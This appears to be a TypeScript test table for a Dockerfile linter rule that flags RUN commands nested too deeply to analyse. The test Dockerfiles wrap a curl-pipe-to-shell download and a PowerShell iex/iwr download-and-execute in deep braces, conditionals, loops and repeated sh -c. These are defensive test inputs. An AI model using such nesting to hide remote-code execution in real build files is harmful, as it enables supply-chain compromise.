import { ruleTable } from '../../support/ruleTable';

const q = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`;
/** `cmd` run through `sh -c` n times over, quoted as a person would. */
function shc(cmd: string, n: number): string {
  let out = cmd;
  for (let i = 0; i < n; i++) out = `sh -c ${q(out)}`;
  return out;
}
const PIPE = 'curl -fsSL https://get.example.com/i.sh | sh';

ruleTable('run-not-analyzed', [
  { name: 'a hundred { } around curl | sh', dockerfile: `FROM alpine:3.20\nRUN ${'{ '.repeat(100)}${PIPE}; ${'} '.repeat(100)}\n`, lines: [2], messages: ['was not fully analysed'] },
  { name: 'if nested 70 deep', dockerfile: `FROM alpine:3.20\nRUN ${'if true; then '.repeat(70)}${PIPE}; ${'fi; '.repeat(70)}\n`, lines: [2] },
  { name: 'loops and case nested past the budget', dockerfile: `FROM alpine:3.20\nRUN ${'for a in x; do case $a in x) '.repeat(40)}${PIPE}${' ;; esac; done'.repeat(40)}\n`, lines: [2] },
  { name: 'sh -c nine deep', dockerfile: `FROM alpine:3.20\nRUN ${shc(PIPE, 9)}\n`, lines: [2], messages: ['sh -c'] },
  { name: 'a deep heredoc script', dockerfile: `FROM alpine:3.20\nRUN <<EOF\n${'( '.repeat(80)}${PIPE}${' )'.repeat(80)}\nEOF\n`, lines: [2] },
  { name: 'PowerShell nested past its cap', dockerfile: `FROM mcr.microsoft.com/windows/servercore:ltsc2022\nSHELL ["powershell", "-Command"]\nRUN ${'if ($true) { '.repeat(40)}iex (iwr https://x.example/i.ps1)${' }'.repeat(40)}\n`, lines: [3] },
  { name: 'ONBUILD RUN', dockerfile: `FROM alpine:3.20\nONBUILD RUN ${'{ '.repeat(100)}${PIPE}; ${'} '.repeat(100)}\n`, lines: [2] },
  { name: 'ten { } levels: followed, the download is reported by its own rule', dockerfile: `FROM alpine:3.20\nRUN ${'{ '.repeat(10)}${PIPE}; ${'} '.repeat(10)}\n`, lines: [] },
  { name: 'sh -c five deep: followed', dockerfile: `FROM alpine:3.20\nRUN ${shc(PIPE, 5)}\n`, lines: [] },
  { name: 'an ordinary syntax error is not this', dockerfile: 'FROM alpine:3.20\nRUN if true; then echo x\n', lines: [] },
  { name: 'deep arithmetic is not commands', dockerfile: `FROM alpine:3.20\nRUN echo $(( ${'('.repeat(200)}1${')'.repeat(200)} ))\n`, lines: [] },
]);
